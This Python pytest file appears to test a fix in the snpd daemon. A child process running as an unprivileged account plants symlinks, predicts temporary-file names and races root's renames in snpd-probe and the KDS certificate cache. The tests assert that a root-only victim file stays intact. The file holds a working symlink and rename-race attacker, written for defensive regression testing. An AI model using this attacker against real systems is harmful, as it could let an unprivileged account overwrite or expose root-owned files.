"""Attacks on root's file writes (issue 10, item 3). Root writes into a directory
another account can write, while that account, in a child process that dropped to
its uid, plants symlinks and races renames. The victim is a root-only file (0600 in
a 0700 root directory). Its content, mode and owner, and its directory's listing,
must never change.

- snpd-probe, run as the unit runs it (root, UMask=0077, ``--output`` in a directory
  user snpd owns). In the first phase, links to the victim are planted at the output
  name and at every temporary name the old code would use (``.probe.json.<pid>.tmp``
  for the next pids). In the second phase, a loop swaps root's output for a link,
  steals root's temporaries, leaving links at their names, and plants predicted
  names, during probe runs and in-process write_probe calls.
- The KDS cache, run by root in-process against a loopback KDS on a cache directory
  that user snpd owns. The same loop works at every cache file, and it also swaps
  the chain's directory for a link to the victim's directory.

Each loop is bounded by a count. Against the code before the fix, both the plant and
the race overwrite the victim or make it world-readable.

The attacker is this file run as a script: ``python test_attack_files.py CONFIG_JSON``.
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import pwd
import select
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any, Dict, Iterator, List, Optional, Sequence

import pytest
from dbusbus import (  # type: ignore[import-not-found]
    DEADLINE,
    REPO_ROOT,
    drop_privileges,
    stop_process,
)

pytestmark = pytest.mark.integration

ATTACKER = "snpd"  # what a compromised daemon runs as
VICTIM_DATA = b"root-only: must never change\n"
PID_SPAN = 256  # predicted temporary names planted ahead of the next pid
PLANT_RUNS = 3  # probe runs, each after a fresh plant
RACE_PROBE_RUNS = 8  # probe processes while the race runs
RACE_WRITES = 150  # in-process write_probe calls while the race runs
CACHE_ROUNDS = 30
RACE_ITERATIONS = 200_000  # the attacker's bound; it stops earlier when told
SWAP_EVERY = 40  # the attacker toggles a directory link every so many iterations
PROBE_CODE = "import sys; from snpd.cli.daemon import probe_main; sys.exit(probe_main())"


# -- the victim ------------------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Victim:
    """A root-only file in a root-only directory."""

    directory: Path

    @property
    def file(self) -> Path:
        return self.directory / "secret"

    @classmethod
    def make(cls, base: Path) -> Victim:
        directory = base / "vault"
        directory.mkdir(mode=0o700)
        victim = cls(directory)
        victim.file.write_bytes(VICTIM_DATA)
        victim.file.chmod(0o600)
        return victim

    def assert_intact(self, when: str) -> None:
        st = os.lstat(self.file)
        assert (stat.S_IFMT(st.st_mode), stat.S_IMODE(st.st_mode), st.st_uid, st.st_gid) \
            == (stat.S_IFREG, 0o600, 0, 0), f"{when}: the victim's mode or owner changed"
        assert self.file.read_bytes() == VICTIM_DATA, f"{when}: the victim was overwritten"
        assert os.listdir(self.directory) == ["secret"], \
            f"{when}: root wrote into the victim's directory: {os.listdir(self.directory)}"


def attack_base() -> Path:
    """A fresh 0755 root directory other users can traverse."""
    base = Path(tempfile.mkdtemp(prefix="snpd-attack-"))
    base.chmod(0o755)
    return base


def attackers_dir(base: Path, name: str) -> Path:
    pw = pwd.getpwnam(ATTACKER)
    directory = base / name
    directory.mkdir(mode=0o755)
    os.chown(directory, pw.pw_uid, pw.pw_gid)
    return directory


# -- the attacker (runs as ATTACKER) ---------------------------------------------------------------


class Attack:
    """Plants links to the victim at ``targets`` (paths of files root writes) and at
    their temporaries, then races root for ``iterations`` rounds or until stdin
    closes. ``swap_dirs`` are directories that are swapped, now and then, for a link
    to the victim's directory."""

    def __init__(self, directory: Path, victim: Path, targets: Sequence[str],
                 swap_dirs: Sequence[str]) -> None:
        self.directory = directory
        self.victim = victim
        self.targets = [directory / t for t in targets]
        self.swap_dirs = [directory / d for d in swap_dirs]
        self.stats: Dict[str, int] = {"links": 0, "stolen": 0, "swapped": 0,
                                      "dir_swaps": 0, "rounds": 0}

    def link(self, where: Path, to: Path) -> None:
        """Make ``where`` a link to ``to`` in one step, over whatever is there."""
        spare = where.parent / f".plant-{os.getpid()}-{self.stats['links']}"
        try:
            os.symlink(to, spare)
            os.rename(spare, where)
            self.stats["links"] += 1
        except OSError:
            with contextlib.suppress(OSError):
                os.unlink(spare)

    def plant(self) -> None:
        for target in self.targets:
            with contextlib.suppress(OSError):
                target.parent.mkdir(parents=True, exist_ok=True)
            self.link(target, self.victim)
        self.plant_predicted()

    def plant_predicted(self) -> None:
        """Links at the names the old code used for its temporaries: ``.NAME.PID.tmp``
        for the next PID_SPAN pids."""
        last = int(Path("/proc/sys/kernel/ns_last_pid").read_text())
        for target in self.targets:
            for pid in range(last + 1, last + PID_SPAN):
                with contextlib.suppress(OSError):
                    os.symlink(self.victim, target.parent / f".{target.name}.{pid}.tmp")

    def race_once(self) -> None:
        for target in self.targets:
            with contextlib.suppress(OSError):
                for name in os.listdir(target.parent):
                    if name.startswith(f".{target.name}.") and name.endswith(".tmp"):
                        self.steal(target.parent / name)
            try:
                regular = stat.S_ISREG(os.lstat(target).st_mode)
            except OSError:
                regular = True  # nothing there yet: a link for root to meet
            if regular:
                self.link(target, self.victim)
                self.stats["swapped"] += 1

    def steal(self, temporary: Path) -> None:
        """Root's temporary file goes; a link to the victim takes its name."""
        try:
            if not stat.S_ISREG(os.lstat(temporary).st_mode):
                return
            os.unlink(temporary)
        except OSError:
            return
        self.stats["stolen"] += 1
        self.link(temporary, self.victim)

    def swap_directories(self, phase: int) -> None:
        for directory in self.swap_dirs:
            aside = directory.with_name(directory.name + ".aside")
            with contextlib.suppress(OSError):
                if phase == 0 and not directory.is_symlink():
                    os.rename(directory, aside)
                    os.symlink(self.victim.parent, directory)
                    self.stats["dir_swaps"] += 1
                elif phase == 1 and directory.is_symlink():
                    os.unlink(directory)
                    os.rename(aside, directory)

    def race(self, iterations: int) -> None:
        for i in range(iterations):
            if i % 32 == 0 and select.select([sys.stdin], [], [], 0)[0]:
                return  # stdin readable: closed by the test, stop
            self.race_once()
            if i % SWAP_EVERY == 0:
                self.swap_directories((i // SWAP_EVERY) % 2)
            if i % 500 == 0:
                self.plant_predicted()
            self.stats["rounds"] += 1


def attacker_main(config: Dict[str, Any]) -> int:
    drop_privileges(config["user"])
    attack = Attack(Path(config["directory"]), Path(config["victim"]), config["targets"],
                    config["swap_dirs"])
    attack.plant()
    print("ready", flush=True)
    attack.race(config["iterations"])
    print(json.dumps(attack.stats), flush=True)
    return 0


class Attacker:
    """The attack in a child process as ATTACKER. Use as a context manager: on entry
    the links are planted; ``stop()`` ends the race and returns its counts."""

    def __init__(self, directory: Path, victim: Victim, targets: Sequence[str], *,
                 iterations: int, swap_dirs: Sequence[str] = ()) -> None:
        config = {"user": ATTACKER, "directory": str(directory), "victim": str(victim.file),
                  "targets": list(targets), "swap_dirs": list(swap_dirs),
                  "iterations": iterations}
        self._proc = subprocess.Popen(
            [sys.executable, str(Path(__file__).resolve()), json.dumps(config)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, cwd="/")
        assert self._proc.stdout is not None
        self.stats: Dict[str, int] = {}

    def _line(self) -> str:
        assert self._proc.stdout is not None
        ready, _, _ = select.select([self._proc.stdout], [], [], DEADLINE)
        return self._proc.stdout.readline().decode().strip() if ready else ""

    def __enter__(self) -> Attacker:
        line = self._line()
        if line != "ready":
            stop_process(self._proc)
            pytest.fail(f"the attacker did not start: {line!r}")
        return self

    def stop(self) -> Dict[str, int]:
        assert self._proc.stdin is not None
        self._proc.stdin.close()
        line = self._line()
        status = self._proc.wait(DEADLINE)
        assert status == 0, f"the attacker failed with {status}"
        self.stats = json.loads(line)
        return self.stats

    def __exit__(self, *exc: object) -> None:
        if self._proc.stdin is not None:
            self._proc.stdin.close()
        stop_process(self._proc)


# -- root's side ---------------------------------------------------------------------------------


def run_probe(output: Path) -> subprocess.CompletedProcess[bytes]:
    """snpd-probe as the unit's ExecStartPre runs it: root, UMask=0077, --output."""
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(
        p for p in (env.get("PYTHONPATH", ""), str(REPO_ROOT)) if p)
    return subprocess.run([sys.executable, "-c", PROBE_CODE, "--output", str(output)],
                          cwd="/", env=env, umask=0o077, capture_output=True,
                          timeout=DEADLINE, check=False)


def assert_roots_or_attackers(path: Path, when: str) -> None:
    """What sits at ``path`` is root's regular file, the attacker's link, or nothing.
    A link's owner is who made it, so root never made one here."""
    try:
        st = os.lstat(path)
    except FileNotFoundError:
        return
    attacker = pwd.getpwnam(ATTACKER).pw_uid
    kind = stat.S_IFMT(st.st_mode)
    assert (kind, st.st_uid) in ((stat.S_IFREG, 0), (stat.S_IFLNK, attacker)), \
        f"{when}: {path} is {stat.filemode(st.st_mode)} uid {st.st_uid}"


@pytest.fixture
def base(accounts: Any) -> Iterator[Path]:
    made = attack_base()
    yield made
    shutil.rmtree(made, ignore_errors=True)


# -- the probe ---------------------------------------------------------------------------------


def test_probe_never_follows_planted_links(base: Path) -> None:
    victim = Victim.make(base)
    run = attackers_dir(base, "run")
    output = run / "probe.json"
    for i in range(PLANT_RUNS):
        with Attacker(run, victim, ["probe.json"], iterations=0) as attacker:
            attacker.stop()
        planted = sorted(n for n in os.listdir(run) if n.endswith(".tmp"))
        done = run_probe(output)
        when = f"probe run {i} after the plant"
        victim.assert_intact(when)
        assert done.returncode == 0, f"{when}: {done.stderr.decode()}"
        st = os.lstat(output)
        assert stat.S_ISREG(st.st_mode) and st.st_uid == 0, when
        assert stat.S_IMODE(st.st_mode) == 0o644, f"{when}: {oct(st.st_mode)}"
        assert "kernel_lines" in json.loads(output.read_bytes())
        # The planted links were neither followed nor consumed.
        assert sorted(n for n in os.listdir(run) if n.endswith(".tmp")) == planted
        assert all(os.readlink(run / n) == str(victim.file) for n in planted)


def test_probe_refuses_a_symlinked_output_directory(base: Path) -> None:
    victim = Victim.make(base)
    run = attackers_dir(base, "run")
    os.rmdir(run)
    os.symlink(victim.directory, run)
    done = run_probe(run / "secret")
    assert done.returncode == 1 and b"symbolic link" in done.stderr, done.stderr
    victim.assert_intact("probe into a symlinked directory")


def test_probe_survives_the_rename_race(base: Path) -> None:
    from snpd.daemon import write_probe

    victim = Victim.make(base)
    run = attackers_dir(base, "run")
    output = run / "probe.json"
    no_kernel_log = base / "no-root"
    with Attacker(run, victim, ["probe.json"], iterations=RACE_ITERATIONS) as attacker:
        for i in range(RACE_PROBE_RUNS):
            done = run_probe(output)
            when = f"probe run {i} in the race"
            victim.assert_intact(when)
            assert done.returncode in (0, 1), f"{when}: {done.stderr.decode()}"
            assert_roots_or_attackers(output, when)
        for i in range(RACE_WRITES):
            with contextlib.suppress(OSError):  # the attacker may take the temporary away
                write_probe(output, root=no_kernel_log)
            victim.assert_intact(f"write_probe {i} in the race")
            assert_roots_or_attackers(output, f"write_probe {i} in the race")
        stats = attacker.stop()
    victim.assert_intact("after the race")
    assert stats["swapped"] > 0, f"the race never ran: {stats}"
    print(f"probe race: {stats}")


# -- the KDS cache ---------------------------------------------------------------------------


def test_cache_writes_survive_plants_and_races(base: Path, template: Any) -> None:
    from reliability import emulator_kds  # type: ignore[import-not-found]

    from snpd.abi.product import Endorser
    from snpd.kds.cache import CertificateCache
    from snpd.kds.client import KdsClient
    from snpd.trust.roots import TrustRoots

    victim = Victim.make(base)
    cache_dir = attackers_dir(base, "cache")
    state = template.state
    product, chip_id, tcb = state.config.product, state.chip_id, state.config.tcb("reported")
    kds = emulator_kds(template)
    client = KdsClient(kds.url, deadline=10.0, max_retries=0)
    try:
        cache = CertificateCache(cache_dir, client, roots=TrustRoots(explicit=(state.ark,)))
        chain_dir = cache.chain_dir(product, Endorser.VCEK)
        targets = [str(p.relative_to(cache_dir)) for p in (
            chain_dir / "ark.pem", chain_dir / "ask.pem", chain_dir / "crl.der",
            cache.vcek_path(product, chip_id, tcb))]
        swap = [str(chain_dir.relative_to(cache_dir))]
        failures: List[str] = []
        with Attacker(cache_dir, victim, targets, iterations=RACE_ITERATIONS,
                      swap_dirs=swap) as attacker:
            for i in range(CACHE_ROUNDS):
                try:
                    cache.certificates(product, Endorser.VCEK, chip_id=chip_id, tcb=tcb,
                                       with_crl=True)
                except Exception as exc:  # refused or raced: fine, as long as nothing leaks
                    failures.append(type(exc).__name__)
                victim.assert_intact(f"cache round {i}")
                for target in targets:
                    assert_roots_or_attackers(cache_dir / target, f"cache round {i}")
            stats = attacker.stop()
        victim.assert_intact("after the cache race")
        assert cache.stats.fetches > 0 and stats["swapped"] > 0, (cache.stats, stats)
        print(f"cache race: {stats}, fetches {cache.stats.fetches}, "
              f"failed rounds {len(failures)} ({sorted(set(failures))})")
        # Unattacked, the same directory (the attacker's) holds the whole set again.
        shutil.rmtree(cache_dir)
        attackers_dir(base, "cache")
        cache.certificates(product, Endorser.VCEK, chip_id=chip_id, tcb=tcb, with_crl=True)
        for target in targets:
            assert_roots_or_attackers(cache_dir / target, "unattacked")
            assert (cache_dir / target).is_file(), target
    finally:
        client.close()
        kds.stop()


def main(argv: Optional[Sequence[str]] = None) -> int:
    args = list(sys.argv[1:] if argv is None else argv)
    return attacker_main(json.loads(args[0]))


if __name__ == "__main__":
    sys.exit(main())
